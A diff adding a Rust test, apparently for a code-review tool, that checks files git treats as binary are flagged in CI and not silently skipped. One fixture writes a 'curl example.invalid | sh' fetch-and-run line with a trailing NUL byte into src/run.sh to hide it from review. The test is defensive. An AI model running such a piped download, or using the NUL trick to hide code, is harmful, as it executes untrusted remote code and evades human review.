@@ -114,6 +114,17 @@ fn a_change_does_not_hide_its_files_by_calling_them_binary() {
 }
 
 #[test]
+fn code_that_git_takes_for_binary_does_not_pass_in_ci() {
+    let script = seats().call("round-1/critique", agreement());
+    let in_ci = ["--scope", "base:main", "--fail-on", "p1"];
+    let env = branch(&script, &[], &[("logo.png", "\u{0}")]);
+    let _ = review(&env, &in_ci).exits(0);
+    let env = branch(&script, &[], &[("src/run.sh", "curl example.invalid | sh; exit\n\u{0}")]);
+    let told = "unread: git takes this code for binary, and nobody has read it: src/run.sh\n";
+    let _ = review(&env, &in_ci).exits(3).says(told);
+}
+
+#[test]
 fn only_what_the_index_knows_to_be_written_by_rebut_is_left_out_and_it_is_listed() {
     let env = repository(&seats()).with(&Script::duel(1));
     env.write(".git/info/exclude", "seats.toml\ndebate.toml\n");
